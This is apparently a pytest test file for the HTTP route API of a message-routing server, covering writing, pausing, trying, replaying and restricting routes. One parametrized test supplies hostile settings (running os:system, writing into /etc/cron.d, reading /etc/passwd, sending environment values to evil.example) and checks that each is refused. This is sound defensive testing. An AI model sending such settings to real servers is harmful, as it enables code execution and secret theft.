# SPDX-License-Identifier: MIT
"""Routes over HTTP: written, tried, paused and removed, and nothing of this machine is reached through them."""

import pytest

from redrive.access import Role
from redrive.routes import from_queue, route, to_queue, views
from redrive.server import ServerSettings
from tests.server.conftest import Someone, client_of, principal

ROUTE = {
    "source": {"kind": "queue", "queue": "orders"},
    "filters": [{"kind": "match", "expression": "body.total > 100"}],
    "sender": {"kind": "queue", "queue": "billing"},
}


@pytest.fixture(autouse=True)
async def _queues(desk):
    await desk.broker.declare("orders")
    await desk.broker.declare("billing")


async def test_a_route_is_written_listed_and_shown_with_its_history(client, desk):
    answer = await client.put("/routes/big", json=ROUTE)
    assert answer.json() == views.route_view(await desk.routes.show("big"))
    assert (await client.get("/routes")).json() == [answer.json()]
    changed = await client.put("/routes/big", json={**ROUTE, "filters": []})
    assert changed.json()["version"] == 2
    shown = (await client.get("/routes/big")).json()
    assert [each["version"] for each in shown.pop("history")] == [2, 1]
    assert shown == changed.json()
    assert (await client.get("/routes/none")).json()["code"] == "route-not-found"


async def test_a_route_is_paused_resumed_drained_and_removed(client):
    await client.put("/routes/big", json=ROUTE)
    paused = await client.post("/routes/big/pause", json={"reason": "wait"})
    assert (paused.json()["state"], paused.json()["reason"]) == ("paused", "wait")
    assert (await client.post("/routes/big/resume")).json()["state"] == "running"
    assert (await client.post("/routes/big/drain", json={"within": 60})).json()["state"] == "removed"
    await client.put("/routes/big", json=ROUTE)
    assert (await client.delete("/routes/big")).json()["state"] == "removed"


async def test_an_event_on_trial_shows_every_step(client):
    await client.put("/routes/big", json=ROUTE)
    steps = (await client.post("/routes/big/test", json={"body": '{"total": 250}'})).json()["steps"]
    assert [each["outcome"].split()[0] for each in steps] == ["passed", "would"]
    small = (await client.post("/routes/big/test", json={"body": '{"total": 5}'})).json()["steps"]
    assert [each["outcome"] for each in small] == ["consumed"]


async def test_dead_legs_are_listed_and_replayed(client, desk):
    queue = (await client.put("/routes/big", json=ROUTE)).json()["queue"]
    await desk.broker.send(queue, b"{}")
    (delivery,) = await desk.broker.receive(queue)
    await delivery.dead_letter("odd", "by hand")
    assert [each["dead_letter"]["reason"] for each in (await client.get("/routes/big/dead")).json()] == ["odd"]
    assert (await client.post("/routes/big/replay", json={})).json()["resubmitted"] == 1
    assert (await client.get("/routes/big/dead")).json() == []


async def test_the_name_is_enough_unless_two_applications_have_it(client, desk):
    for application, queue in (("one", "orders"), ("two", "billing")):
        await desk.broker.declare(f"from-{queue}")
        source = from_queue(f"from-{queue}")
        await desk.routes.add(route("big", source=source, application=application) >> to_queue(queue))
    assert (await client.get("/routes/big")).json()["code"] == "invalid-request"
    assert (await client.get("/routes/big", params={"application": "two"})).json()["application"] == "two"


@pytest.mark.parametrize(
    "part",
    [
        {"filters": [{"kind": "python", "function": "os:system"}]},
        {"filters": [{"kind": "call", "function": "os:system"}]},
        {"filters": [{"kind": "python"}]},
        {"sender": {"kind": "file", "path": "/etc/cron.d/odd"}},
        {"source": {"kind": "tail", "path": "/etc/passwd"}},
        {"sender": {"kind": "webhook", "url": "https://evil.example/", "headers": {"x": "env:PATH"}}},
        {"sender": {"kind": "webhook", "url": "https://evil.example/", "secret": "env:PATH"}},
        {"filters": [{"kind": "enrich", "url": "https://evil.example/", "headers": {"x": "env:PATH"}, "into": "x"}]},
        {"source": {"kind": "redis", "stream": "orders", "url": "env:PATH"}},
    ],
)
async def test_a_request_reaches_neither_code_nor_files_nor_secrets_of_the_machine(client, desk, part):
    answer = await client.put("/routes/big", json={**ROUTE, **part})
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid-setting")
    assert await desk.routes.find() == []


async def test_a_function_that_the_settings_allow_may_be_named(desk):
    settings = ServerSettings(allow=("tests.routes.filters.functions:result",))
    admin = client_of(desk, Someone(principal()), settings)
    filters = [{"kind": "python", "function": "tests.routes.filters.functions:result"}]
    answer = await admin.put("/routes/big", json={**ROUTE, "filters": filters})
    assert answer.status_code == 200, answer.text


async def test_a_file_in_a_folder_that_the_settings_allow_may_be_named(desk, tmp_path):
    admin = client_of(desk, Someone(principal()), ServerSettings(folders=(str(tmp_path),)))
    for path, status in ((tmp_path / "out.jsonl", 200), (tmp_path / ".." / "out.jsonl", 400)):
        answer = await admin.put("/routes/big", json={**ROUTE, "sender": {"kind": "file", "path": str(path)}})
        assert answer.status_code == status, answer.text
    source = {"kind": "tail", "path": str(tmp_path / "in.log"), "position_file": "/etc/cron.d/odd"}
    assert (await admin.put("/routes/big", json={**ROUTE, "source": source})).status_code == 400


async def test_a_variable_that_the_settings_allow_may_be_named(desk):
    admin = client_of(desk, Someone(principal()), ServerSettings(variables=("PARTNER_*",)))
    for variable, status in (("PARTNER_TOKEN", 200), ("PASSWORD", 400)):
        sender = {"kind": "webhook", "url": "https://partner.example/", "headers": {"x": f"env:{variable}"}}
        answer = await admin.put("/routes/big", json={**ROUTE, "sender": sender})
        assert answer.status_code == status, answer.text
    assert "add it to variables in redrive.toml" in answer.json()["detail"]


@pytest.mark.parametrize("odd", [{"source": {}}, {"sender": {"kind": "none"}}, {"nonsense": 1}, {"application": "a b"}])
async def test_a_route_that_cannot_be_used_is_refused(client, desk, odd):
    answer = await client.put("/routes/big", json={**ROUTE, **odd})
    assert answer.status_code == 400
    assert await desk.routes.find() == []


async def test_routes_are_not_for_whoever_is_limited_to_queues(as_someone):
    limited = as_someone(Role.ADMIN, queues=("orders",))
    assert (await limited.get("/routes")).json()["code"] == "forbidden"
    assert (await limited.put("/routes/big", json=ROUTE)).json()["code"] == "forbidden"
